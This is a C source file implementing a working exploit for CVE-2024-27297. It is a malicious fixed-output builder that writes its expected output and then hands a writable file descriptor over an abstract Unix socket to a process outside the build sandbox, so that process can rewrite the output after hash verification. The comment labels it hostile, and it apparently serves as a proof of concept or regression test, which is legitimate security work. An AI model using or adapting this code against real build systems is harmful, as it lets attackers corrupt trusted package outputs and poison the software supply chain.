/* A hostile fixed-output builder (CVE-2024-27297): writes the expected
 * output, then passes a writable descriptor of it over the abstract Unix
 * socket named argv[1] to a process outside the build, which rewrites the
 * output after the hash check if the store kept that inode. */
#include <fcntl.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *out = getenv("out");
    if (argc < 2 || !out) return 10;
    int fd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "good\n", 5) != 5) return 11;
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un addr;
    memset(&addr, 0, sizeof addr);
    addr.sun_family = AF_UNIX;
    size_t len = strlen(argv[1]);
    if (len + 1 > sizeof addr.sun_path) return 12;
    memcpy(addr.sun_path + 1, argv[1], len);
    if (connect(s, (struct sockaddr *)&addr, offsetof(struct sockaddr_un, sun_path) + 1 + len) < 0) return 13;
    char byte = 'x';
    struct iovec io = {&byte, 1};
    char control[CMSG_SPACE(sizeof(int))];
    memset(control, 0, sizeof control);
    struct msghdr msg;
    memset(&msg, 0, sizeof msg);
    msg.msg_iov = &io;
    msg.msg_iovlen = 1;
    msg.msg_control = control;
    msg.msg_controllen = sizeof control;
    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    if (sendmsg(s, &msg, 0) != 1) return 14;
    /* Wait until the receiver has it. */
    read(s, &byte, 1);
    return 0;
}
